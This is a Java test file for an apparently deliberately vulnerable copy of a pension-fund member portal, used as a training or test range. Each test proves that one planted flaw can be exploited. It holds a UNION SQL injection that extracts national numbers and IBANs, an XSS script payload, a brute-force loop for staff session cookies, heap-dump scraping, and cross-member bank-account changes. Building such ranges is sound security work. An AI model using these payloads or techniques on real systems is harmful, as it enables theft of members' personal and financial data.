package be.mijnfonds.range.twin;

import static org.assertj.core.api.Assertions.assertThat;

import be.mijnfonds.demo.people.Member;
import be.mijnfonds.range.aim.Plain;
import java.io.IOException;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Each mistake reaches all that it should, or the row that leans on it would prove nothing. That nothing is reached without it: TwinTest. */
@Tag("turn-2")
class MistakesTest {
    static final String PAYLOAD = "<script>document.title='in'</script>";
    static final String UNION =
            "x') union select now(), national_number, person_name_last, bank_refund_iban" + " from member -- ";

    @TempDir
    static Path dir;

    private static OpenTwin open;

    @BeforeAll
    static void start() throws Exception {
        open = new OpenTwin(dir);
    }

    @AfterAll
    static void stop() {
        open.close();
    }

    @Test
    void without_object_checks_one_member_reads_and_changes_all() throws Exception {
        var visit = open.with(Mistake.WITHOUT_OBJECT_CHECKS).signIn("rita");
        for (var member : open.members()) {
            assertThat(OpenTwin.canaries(member)).allMatch(pages(visit, member)::contains);
        }
        var other = open.member("alone").person().number();
        assertThat(visit.changeBank(other, TwinTest.NEW_IBAN, "Mallory").status())
                .isEqualTo(200);
        assertThat(open.signIn("alone").bank().body()).contains("Mallory");
    }

    @Test
    void a_concatenated_query_gives_every_member() throws Exception {
        var found = search(open.with(Mistake.CONCATENATED_QUERY).signIn("rita"), UNION);
        for (var member : open.members())
            assertThat(found).contains(member.person().nationalNumber());
    }

    @Test
    void an_open_debug_endpoint_hands_out_the_password_and_who_is_signed_in() throws Exception {
        open.with(Mistake.OPEN_DEBUG_ENDPOINT);
        var visits = List.of(open.signIn("rita"), open.signIn("alone"), open.signIn("parent"));
        var nobody = open.visitor().anonymous();
        assertThat(nobody.get("/actuator/env").body()).contains(open.twin().databasePassword());
        assertThat(nobody.save("/actuator/heapdump", dir.resolve("heap.hprof"))).isEqualTo(200);
        var dump = Files.readString(dir.resolve("heap.hprof"), StandardCharsets.ISO_8859_1);
        for (var visit : visits)
            assertThat(dump.contains("ZZ-" + visit.number() + "-name.last")).isTrue();
    }

    @Test
    void a_log_with_bodies_holds_what_members_saw_and_typed() throws Exception {
        open.with(Mistake.LOGS_BODIES);
        pages(open.signIn("german"), open.member("german"));
        var visit = open.signIn("rita");
        visit.changeBank(visit.number(), TwinTest.NEW_IBAN, "Rita Typt");
        assertThat(OpenTwin.canaries(open.member("german"))).allMatch(log()::contains);
        assertThat(log()).contains("holder=Rita Typt");
    }

    @Test
    void a_shared_cache_hands_nobody_the_pages_of_those_who_were_there() throws Exception {
        var member = open.member("french");
        pages(open.with(Mistake.SHARED_RESPONSE_CACHE).signIn("french"), member);
        var nobody = open.visitor().anonymous();
        assertThat(OpenTwin.canaries(member)).allMatch(pages(nobody, member)::contains);
        assertThat(nobody.get("/members/" + open.member("alone").person().number() + "/data")
                        .status())
                .isEqualTo(302);
    }

    @Test
    void unescaped_output_is_a_script_in_the_page() throws Exception {
        var visit = open.with(Mistake.UNESCAPED_OUTPUT).signIn("alone");
        visit.changeBank(visit.number(), TwinTest.NEW_IBAN, PAYLOAD);
        var page = visit.bank();
        assertThat(page.body()).contains(PAYLOAD);
        assertThat(page.headers()).doesNotContainKey("content-security-policy");
    }

    @Test
    void a_guessed_session_of_staff_lists_all_members() throws Exception {
        var nobody = open.with(Mistake.GUESSABLE_STAFF_SESSION).visitor().anonymous();
        assertThat(nobody.get("/staff/members").status()).isNotEqualTo(200);
        var list = guessed(nobody);
        for (var member : open.members())
            assertThat(list).contains(member.person().nationalNumber());
    }

    @Test
    void a_stolen_cookie_is_good_after_signing_out() throws Exception {
        var careless = open.with(Mistake.SESSION_OUTLIVES_SIGN_OUT).signIn("rita");
        var later = open.visitor().with(careless.session(), careless.number());
        careless.signOut();
        assertThat(careless.session()).isEmpty();
        assertThat(later.data().status()).isEqualTo(200);
    }

    @Test
    void who_counts_the_codes_of_certificates_up_sees_whose_they_are() throws Exception {
        var nobody = open.with(Mistake.COUNTED_CODES).visitor().anonymous();
        for (var member : open.members())
            assertThat(nobody.get("/check?code=" + member.person().number()).body())
                    .contains(member.person().nationalNumber());
        assertThat(nobody.get("/check?code=999999").status()).isEqualTo(404);
    }

    @Test
    void whoever_reads_the_mail_signs_in() throws Exception {
        var member = open.member("parent");
        var address = "ZZ-" + member.person().number() + "-email.value";
        var mail = OpenTwin.canaries(member).stream()
                .filter(one -> one.startsWith(address))
                .findFirst()
                .orElseThrow();
        open.with(Mistake.MAIL_LINK_SIGNS_IN).visitor().anonymous().get("/sign-in/mail?to=" + mail);
        var thief = open.visitor().anonymous();
        assertThat(thief.get(link(mail)).headers().get("location")).endsWith("/overview");
        assertThat(OpenTwin.canaries(member)).allMatch(pages(thief, member)::contains);
        assertThat(open.with()
                        .visitor()
                        .anonymous()
                        .get("/sign-in/mail?to=" + mail)
                        .headers()
                        .get("location"))
                .isEqualTo(open.twin().address() + "/");
    }

    @Test
    void whoever_has_taken_the_portal_over_keeps_each_page_and_is_paid() throws Exception {
        var visit = open.with(Mistake.TAKEN_OVER).signIn("looked-at");
        pages(visit, open.member("looked-at"));
        visit.changeBank(visit.number(), TwinTest.NEW_IBAN, "Samira Benali");
        var loot = read(open.twin().loot());
        assertThat(OpenTwin.canaries(open.member("looked-at"))).allMatch(loot::contains);
        assertThat(visit.bank().body()).contains("BE71 0961 2345 6769").doesNotContain("BE68539007547034");
    }

    @Test
    void an_altered_script_reaches_every_visitor() throws Exception {
        Files.writeString(open.twin().staticFolder().resolve("twin.js"), "alert(1)");
        assertThat(open.visitor().anonymous().get("/twin.js").body()).isEqualTo("alert(1)");
    }

    /** All that the pages about this member show whoever opens them. */
    private static String pages(TwinVisit visit, Member member) throws IOException, InterruptedException {
        var all = new StringBuilder();
        for (var page : Plain.pages(member)) all.append(visit.get(page).body());
        return all.toString();
    }

    private static String search(TwinVisit visit, String text) throws IOException, InterruptedException {
        return visit.get("/members/" + visit.number() + "/access-log?period=all&q="
                        + URLEncoder.encode(text, StandardCharsets.UTF_8))
                .body();
    }

    private static String guessed(TwinVisit nobody) throws IOException, InterruptedException {
        for (var guess = 0; guess < 1_000; guess++) {
            nobody.cookie("STAFF", String.format(Locale.ROOT, "staff-%04d", guess));
            var page = nobody.get("/staff/members");
            if (page.status() == 200) return page.body();
        }
        throw new AssertionError("no session could be guessed");
    }

    private static String link(String mail) throws IOException {
        var text = read(open.twin().mails());
        assertThat(text).contains(mail);
        return text.lines()
                .filter(line -> line.contains("/sign-in/mail?token="))
                .map(line -> line.substring(line.indexOf("/sign-in/")))
                .findFirst()
                .orElseThrow();
    }

    private static String log() throws IOException {
        return Files.readString(open.twin().portal().log());
    }

    private static String read(Path folder) throws IOException {
        var all = new ArrayList<String>();
        try (Stream<Path> files = Files.list(folder)) {
            for (var file : files.toList()) all.add(Files.readString(file));
        }
        return String.join("\n", all);
    }
}
